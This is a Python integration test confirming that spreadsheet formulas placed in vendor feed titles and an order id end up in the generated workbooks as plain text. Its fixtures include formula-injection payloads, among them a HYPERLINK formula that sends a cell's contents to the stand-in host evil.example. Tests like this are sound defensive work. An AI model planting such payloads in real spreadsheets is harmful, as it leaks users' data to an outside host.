"""Formula injection through the sheets (issue 9, item 5), against the whole system: a vendor
feed whose titles are spreadsheet formulas, and a shipped order whose id is one, end up in
the merged-feed and channel workbooks as text cells holding the exact original text, and no
workbook holds a formula."""

from __future__ import annotations

import asyncio
import json
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from relay_cli.gateway_client import GatewayClient
from relay_sheets.adapters.xlsx_backend import XlsxBackend
from relay_sheets.domain.layout import channel_spreadsheet, merged_feed_spreadsheet
from tests.support.live_system import LiveSystem
from tests.support.polling import eventually

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
TITLES = {
    "FX-1": HYPERLINK,
    "FX-2": "+1+2",
    "FX-3": "-3-4",
    "FX-4": "@SUM(A1:A9)",
}
ORDER_ID = "=1+2"
#: Any formula element of SpreadsheetML: ``<f>``, ``<f t="shared" .../>``...
FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s>/]")


def tenant_config(tenant_id: str) -> str:
    return f"""
tenant_id: "{tenant_id}"
vendors:
  - vendor_id: "v1"
    parser:
      format: "csv"
      column_map: {{sku: "SKU", quantity_available: "QTY", cost: "COST", title: "Title"}}
pricing:
  base_margin_pct: 0.20
  min_price: 25.00
output:
  columns: [sku, quantity_available, price, title, vendor_id]
channels:
  amazon:
    enabled: true
    allocation: {{share_pct: 100, buffer: 0}}
sheets:
  backend: xlsx
"""


def hostile_feed() -> bytes:
    def quoted(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    lines = ["SKU,QTY,COST,Title"]
    lines += [
        f"{sku},{n + 5},10.00,{quoted(title)}" for n, (sku, title) in enumerate(TITLES.items())
    ]
    return ("\n".join(lines) + "\n").encode()


def signed_order(tenant_id: str) -> bytes:
    order: dict[str, Any] = {
        "event_id": f"evt_formula_{tenant_id}",
        "event_type": "order.shipped",
        "timestamp": datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "tenant_id": tenant_id,
        "order": {
            "order_id": ORDER_ID,
            "channel": "amazon",
            "status": "shipped",
            "shipped_at": "2026-11-22T09:55:00Z",
            "items": [{"sku": "FX-1", "quantity": 1}],
        },
    }
    return json.dumps(order).encode()


def cells(path: Path, worksheet: str) -> list[list[tuple[Any, str, bool]]] | None:
    """Every cell of the worksheet as (value, openpyxl data type, quotePrefix); None until
    the workbook and the worksheet exist."""
    if not path.exists():
        return None
    workbook = load_workbook(path)
    if worksheet not in workbook.sheetnames:
        return None
    return [
        [(c.value, c.data_type, bool(c.quotePrefix)) for c in row]
        for row in workbook[worksheet].iter_rows()
    ]


def assert_no_formula_anywhere(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        parts = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert parts, path
        for name in parts:
            assert FORMULA_ELEMENT.search(archive.read(name)) is None, (path, name)


async def test_feed_and_order_formulas_land_in_the_workbooks_as_text(
    live_system: LiveSystem, admin: GatewayClient, unique_id: str
) -> None:
    tenant = f"formula_{unique_id}"
    owner = admin.as_key(await admin.create_tenant(tenant, "Formula", ["amazon"]))
    assert await owner.put_config(tenant, tenant_config(tenant)) == 1
    await owner.upload_feed(tenant, "v1", hostile_feed(), "text/csv")
    queued = await owner.start_run(tenant)
    async with asyncio.timeout(120):
        run = await owner.wait_for_run(queued["run_id"])
    assert (run["status"], run["counts"]["merged_rows"]) == ("SUCCEEDED", 4)

    backend = XlsxBackend(live_system.state_dir / "sheets")
    merged_path = backend.path_for(merged_feed_spreadsheet(tenant))
    channel_path = backend.path_for(channel_spreadsheet(tenant, "amazon"))

    def merged_rows() -> list[list[tuple[Any, str, bool]]] | None:
        found = cells(merged_path, "Merged feed")
        return found if found is not None and len(found) == 1 + len(TITLES) else None

    merged = await eventually(merged_rows, timeout=30, what="the merged-feed workbook")
    header = [value for value, _, _ in merged[0]]
    assert header == ["sku", "quantity_available", "price", "title", "vendor_id"]
    title_at = header.index("title")
    assert {row[0][0]: row[title_at] for row in merged[1:]} == {
        sku: (title, "s", True) for sku, title in TITLES.items()
    }
    assert {row[0][0]: row[1][:2] for row in merged[1:]} == {
        "FX-1": (5, "n"),
        "FX-2": (6, "n"),
        "FX-3": (7, "n"),
        "FX-4": (8, "n"),
    }
    assert_no_formula_anywhere(merged_path)

    await admin.post_shipstation(signed_order(tenant), live_system.webhook_secret, expect=(202,))

    def order_rows() -> list[list[tuple[Any, str, bool]]] | None:
        found = cells(channel_path, "Orders")
        return found if found is not None and len(found) > 1 else None

    orders = await eventually(order_rows, timeout=30, what="the Orders row")
    assert [row[:3] for row in orders] == [
        [("order_id", "s", False), ("sku", "s", False), ("quantity", "s", False)],
        [(ORDER_ID, "s", True), ("FX-1", "s", False), (1, "n", False)],
    ]
    listings = cells(channel_path, "Listings")
    assert listings is not None
    assert {row[0][0]: row[1] for row in listings[1:]} == {
        sku: (title, "s", True) for sku, title in TITLES.items()
    }
    assert_no_formula_anywhere(channel_path)
